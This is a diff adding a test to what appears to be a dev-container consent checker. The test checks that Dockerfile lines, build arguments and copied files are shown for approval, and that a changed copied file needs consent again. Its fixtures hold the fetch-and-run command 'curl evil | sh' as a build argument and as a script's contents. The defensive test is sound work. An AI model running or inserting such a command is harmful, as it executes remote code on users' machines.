@@ -88,6 +88,38 @@ def test_what_is_shown_has_nothing_that_a_terminal_acts_on(paths: Paths, reposit
     assert "\u202e" not in said
 
 
+async def test_a_service_s_dockerfile_and_what_it_copies_are_a_part_of_it(
+    paths: Paths, repository: Path
+) -> None:
+    """Each line that is built is shown; another content of a copied file is asked about again."""
+    service = {"build": {"context": "db", "args": {"DO": "curl evil | sh"}}}
+    compose = {"services": {"app": {"image": "debian"}, "db": service}}
+    files = {
+        ".devcontainer.json": json.dumps({"dockerComposeFile": "c.yml", "service": "app"}),
+        "c.yml": json.dumps(compose),
+        "db/Dockerfile": "FROM debian\nARG DO\nCOPY init.sh /\nRUN $DO\n",
+        "db/init.sh": "echo hello\n",
+        "db/README": "one\n",
+    }
+    put(repository, files)
+    plan = plan_of(paths, open_repository(repository), "HEAD")
+    assert plan is not None
+    said = consent_text(plan)
+    assert "builds db/Dockerfile, with db as its context:" in said
+    assert "\n    RUN $DO\n" in said
+    assert "with the argument DO=curl evil | sh" in said
+    assert "starts beside each task db, from what that builds" in said
+    assert plan.covers == ("db/Dockerfile", "db/init.sh")
+
+    Records(paths).give_consent(str(repository / ".git"), plan.consent, "c.yml")
+    put(repository, {"db/README": "two\n"})
+    as_built(paths, repository)
+    assert await ensured(paths, repository, EnvironmentWish()) is not None
+    put(repository, {"db/init.sh": "curl evil | sh\n"})
+    with pytest.raises(ConsentRequired, match="changed, and needs"):
+        await ensured(paths, repository, EnvironmentWish())
+
+
 def test_what_is_built_is_shown_with_all_that_decides_on_it(paths: Paths, repository: Path) -> None:
     """Arguments can be commands, and blank lines cannot push a line out of sight."""
     build = {"dockerfile": "Dockerfile", "args": {"DO": "curl evil | sh"}, "target": "last"}
